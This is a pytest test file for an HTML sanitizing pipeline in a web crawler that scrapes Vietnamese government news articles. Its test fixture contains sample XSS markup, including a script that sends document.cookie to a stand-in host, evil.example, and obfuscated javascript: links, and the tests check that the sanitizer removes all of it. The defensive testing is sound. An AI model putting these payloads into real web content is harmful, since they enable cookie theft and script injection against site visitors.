from __future__ import annotations

import unicodedata
from typing import Any

import pytest
from scrapy.utils.test import get_crawler

from crawler.domain.items import ArticleItem, ArticleUrlItem
from pipelines.html import (
    PROBLEM_CODES,
    BodyHtmlPipeline,
    removed_elements,
    sanitize_html,
    sanitize_with_report,
)

HOST = "https://hepza.hochiminhcity.gov.vn"
BASE = f"{HOST}/w/hoi-nghi"
REL = "noopener noreferrer nofollow"

HOSTILE = """
<div class="journal-content-article">
<style>p { color: red }</style>
<p style="text-align: justify;" onclick="steal()">Ngày 12/10, Đảng ủy <b>tổ chức</b> hội nghị.</p>
<script>document.location = "https://evil.example/?c=" + document.cookie</script>
<iframe src="https://evil.example/frame">khung</iframe>
<p><a href="javascript:alert(1)">bấm vào</a>
<a href="/w/khac" target="_blank" rel="opener">khác</a></p>
<p><img src="/documents/20122/0/anh.jpg/uuid?t=1" onerror="x()" alt="Ảnh" width="600"></p>
<p>&nbsp;</p>
</div>
"""


def test_hostile_markup_is_neutralized() -> None:
    cleaned = sanitize_html(HOSTILE, BASE)
    lowered = cleaned.lower()
    for needle in ("<script", "<style", "<iframe", "onclick", "onerror", "javascript:", "evil"):
        assert needle not in lowered
    assert "khung" not in cleaned
    assert "color: red" not in cleaned
    assert "style=" not in cleaned
    assert 'class="' not in cleaned
    assert "<b>tổ chức</b>" in cleaned
    assert (
        '<a href="https://hepza.hochiminhcity.gov.vn/w/khac" rel="noopener noreferrer nofollow">'
        in cleaned
    )
    assert f'<img src="{HOST}/documents/20122/0/anh.jpg/uuid?t=1" alt="Ảnh">' in cleaned


@pytest.mark.parametrize(
    ("markup", "expected"),
    [
        (
            '<a href="../tin-tuc">x</a>',
            f'<a href="{HOST}/tin-tuc" rel="{REL}">x</a>',
        ),
        (
            '<a href="?p=2">x</a>',
            f'<a href="{BASE}?p=2" rel="{REL}">x</a>',
        ),
        (
            '<a href="mailto:hepza@tphcm.gov.vn">mail</a>',
            '<a href="mailto:hepza@tphcm.gov.vn" rel="noopener noreferrer nofollow">mail</a>',
        ),
        ('<a href="ftp://h/x">x</a>', '<a rel="noopener noreferrer nofollow">x</a>'),
        ('<img src="data:image/png;base64,AAAA">', "<img>"),
        ('<a href="java&#x09;script:alert(1)">x</a>', f'<a rel="{REL}">x</a>'),
        ('<a href="\x01 JavaScript:alert(1)">x</a>', f'<a rel="{REL}">x</a>'),
        ('<a href="/tin&#10;-tuc">x</a>', f'<a href="{HOST}/tin-tuc" rel="{REL}">x</a>'),
        ('<img src=" //cdn.example/a.png ">', '<img src="https://cdn.example/a.png">'),
    ],
)
def test_links_are_made_absolute_and_filtered_by_scheme(markup: str, expected: str) -> None:
    assert sanitize_html(markup, BASE) == expected


def test_allowed_structure_is_kept() -> None:
    markup = (
        "<h2>Tiêu đề</h2><ul><li>a</li></ul><ol><li>b</li></ol><blockquote>q</blockquote>"
        "<table><thead><tr><th>h</th></tr></thead><tbody><tr><td>d</td></tr></tbody></table>"
        "<figure><img src='https://h/a.jpg' title='t'><figcaption>c</figcaption></figure>"
        "<p>x<sub>2</sub>y<sup>3</sup><em>e</em><i>i</i><u>u</u><strong>s</strong><br>z</p>"
        "<div><span>s</span></div>"
    )
    cleaned = sanitize_html(markup, BASE)
    for tag in ("h2", "ul", "ol", "li", "blockquote", "table", "thead", "tbody", "tr", "th",
                "td", "figure", "figcaption", "sub", "sup", "em", "i", "u", "strong", "div",
                "span"):  # fmt: skip
        assert f"<{tag}>" in cleaned, tag
    assert "<br>" in cleaned
    assert '<img src="https://h/a.jpg" title="t">' in cleaned


def test_disallowed_wrappers_are_unwrapped_keeping_text() -> None:
    assert sanitize_html("<h1>Tiêu đề</h1><font color='red'>chữ</font>", BASE) == "Tiêu đềchữ"


@pytest.mark.parametrize(
    "empty",
    [
        "<p>&nbsp;</p>",
        "<p> </p>",
        "<p></p>",
        "<p><br></p>",
        "<p><span>\u00a0</span></p>",
        "<p>\u200b</p>",
        "<p><strong>&nbsp;</strong>&nbsp;</p>",
    ],
)
def test_empty_paragraphs_are_removed(empty: str) -> None:
    assert sanitize_html(f"<p>một</p>{empty}<p>hai</p>", BASE) == "<p>một</p><p>hai</p>"


def test_paragraph_with_only_an_image_is_kept() -> None:
    assert sanitize_html('<p><img src="/a.jpg"></p>', BASE) == (
        '<p><img src="https://hepza.hochiminhcity.gov.vn/a.jpg"></p>'
    )


def test_nfc_and_text_escaping() -> None:
    nfd = unicodedata.normalize("NFD", "Hội nghị")
    assert sanitize_html(f"<p>{nfd} &lt;b&gt; &amp;</p>", BASE) == "<p>Hội nghị &lt;b&gt; &amp;</p>"
    assert sanitize_html(f"{nfd} đầu <p>x</p>", BASE) == "Hội nghị đầu <p>x</p>"


def test_without_base_url_links_stay_relative_but_are_still_checked() -> None:
    markup = '<a href="/w/a">a</a><a href="java&#x0A;script:alert(1)">b</a>'
    assert sanitize_html(markup, "") == f'<a href="/w/a" rel="{REL}">a</a><a rel="{REL}">b</a>'


def test_empty_input() -> None:
    assert sanitize_html("", BASE) == ""
    assert sanitize_html("  <script>x</script> ", BASE) == ""


def test_sanitize_is_idempotent() -> None:
    once = sanitize_html(HOSTILE, BASE)
    assert sanitize_html(once, BASE) == once


def test_removed_elements_lists_what_went() -> None:
    removed = removed_elements(HOSTILE, sanitize_html(HOSTILE, BASE))
    assert removed == {
        "style": 1,
        "script": 1,
        "iframe": 1,
        "@onclick": 1,
        "@onerror": 1,
        "href=javascript:": 1,
    }


def _pipeline() -> tuple[BodyHtmlPipeline, dict[str, Any]]:
    crawler = get_crawler()
    assert crawler.stats is not None
    return BodyHtmlPipeline.from_crawler(crawler), crawler.stats.get_stats()


def test_pipeline_sanitizes_and_reports_removals() -> None:
    pipeline, stats = _pipeline()
    item = ArticleItem(url=BASE, body_html=HOSTILE)
    pipeline.process_item(item)
    assert item.body_html == sanitize_html(HOSTILE, BASE)
    assert [p["code"] for p in item.problems] == ["body_html_sanitized"]
    message = item.problems[0]["message"]
    for name in ("script", "iframe", "style", "@onclick"):
        assert name in message
    assert stats["normalize/body_html_removed_elements"] == 6
    assert {p["code"] for p in item.problems} <= set(PROBLEM_CODES)


def test_pipeline_clean_body_has_no_problem() -> None:
    pipeline, stats = _pipeline()
    item = ArticleItem(url=BASE, body_html="<p style='text-align:right'>x</p><p>&nbsp;</p>")
    pipeline.process_item(item)
    assert item.body_html == "<p>x</p>"
    assert item.problems == []
    assert "normalize/body_html_removed_elements" not in stats


def test_pipeline_falls_back_to_fetched_url_as_base() -> None:
    pipeline, _ = _pipeline()
    item = ArticleItem(url="", fetched_url="https://h/en/w/a", body_html='<img src="b.jpg">')
    pipeline.process_item(item)
    assert item.body_html == '<img src="https://h/en/w/b.jpg">'


def test_pipeline_empty_body_becomes_none() -> None:
    pipeline, _ = _pipeline()
    item = ArticleItem(url=BASE, body_html="<p>&nbsp;</p>")
    pipeline.process_item(item)
    assert item.body_html is None


def test_other_items_pass_through_untouched() -> None:
    pipeline, _ = _pipeline()
    other = ArticleUrlItem(url=BASE, canonical_url=BASE)
    assert pipeline.process_item(other) is other


def test_control_characters_are_stripped_from_body_html() -> None:
    cleaned = sanitize_html("<p>Nội\x00 dung\x1b</p><p>Đoạn\x0chai\x85</p>", "https://h/w/x")
    assert cleaned == "<p>Nội dung</p><p>Đoạn hai </p>"


@pytest.mark.parametrize(
    "markup",
    [
        HOSTILE,
        "",
        "<script>x()</script>",
        "<p>&nbsp;<span>\u200b</span></p><p onclick='x()'>chữ</p><p><br></p>",
        "<div><p><b>a</b><p><span><p> </p></span></p></div><a href=' java\tscript:x'>b</a>",
        "<table><tr><td><p>\u00a0</p><object>o</object></td></tr></table>" * 3,
    ],
)
def test_one_pass_report_equals_counting_both_fragments_again(markup: str) -> None:
    cleaned, removed = sanitize_with_report(markup, BASE)
    assert cleaned == sanitize_html(markup, BASE)
    assert removed == removed_elements(markup, cleaned)
